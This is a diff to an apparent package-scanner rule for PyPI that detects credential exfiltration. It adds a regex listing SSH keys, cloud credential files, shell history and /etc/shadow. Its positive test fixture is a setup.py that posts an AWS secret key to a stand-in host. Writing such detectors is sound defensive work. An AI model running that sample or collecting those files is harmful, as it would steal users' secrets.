@@ -10,6 +10,9 @@ function credSources(sources: readonly string[]): string[] {
   return sources.filter((l) => (l.startsWith('env:') && l !== 'env:*') || l.startsWith('cred-file:') || l.startsWith('secret-file:') || l.startsWith('cred-param:') || l === 'clipboard' || l === 'metadata');
 }
 
+/** Files whose contents no client sends anywhere but its own vendor (registry auth files excluded). */
+const KEY_FILE_RE = /^(?:cred|secret)-file:.*(?:id_rsa|id_ed25519|id_ecdsa|id_dsa|\.ssh[\\/]|\.aws[\\/]credentials|\.bash_history|\.zsh_history|\/etc\/shadow|\.kube[\\/]config|gcloud|application_default_credentials|\.git-credentials)/;
+
 /** Decides how bad a credential flow is; undefined = not reported (e.g. an SDK signing to its vendor). */
 export function credentialFlowSeverity(sources: readonly string[], dest: Dest | undefined, trigger: Trigger): Severity | undefined {
   if (dest?.cls === 'vendor') return undefined;
@@ -20,8 +23,12 @@ export function credentialFlowSeverity(sources: readonly string[], dest: Dest | 
   if (onlyParams) return dest !== undefined && isHostileDest(dest) ? 'critical' : undefined;
   if (dest === undefined || dest.cls === 'dynamic') return isAuto(trigger) ? 'high' : undefined;
   if (isHostileDest(dest)) return 'critical';
+  // Private keys, cloud credential files and shell history sent to a fixed host no vendor owns: no
+  // client needs to ship those anywhere (registry auth files like .netrc/.npmrc go to their registries).
+  if (dest.cls === 'unknown' && sources.some((l) => KEY_FILE_RE.test(l))) return 'critical';
   return isAuto(trigger) ? 'critical' : 'high';
 }
+
 
 export const credentialExfiltration = defineRule<PyPackage, PyReport>({
   meta: {
@@ -32,7 +39,7 @@ export const credentialExfiltration = defineRule<PyPackage, PyReport>({
     confidence: 'high',
     ecosystems: ['pypi'],
     description: 'Sends credentials (cloud keys, tokens, credential files, browser or wallet data, access keys handed to a client) to a non-vendor destination.',
-    details: 'A cloud SDK that sends its own credentials to its own vendor endpoint is not reported; hidden (reversed/encoded) URLs and interaction services are.',
+    details: 'A cloud SDK that sends its own credentials to its own vendor endpoint is not reported; hidden (reversed/encoded) URLs and interaction services are. Private keys, cloud credential files and shell history sent to a fixed host no vendor owns are critical wherever it runs.',
     examples: {
       positive: [
         { files: { 'setup.py': "import os, requests\nrequests.post('https://c.invalid/k', data={'k': os.environ.get('AWS_SECRET_ACCESS_KEY')})\n" } },
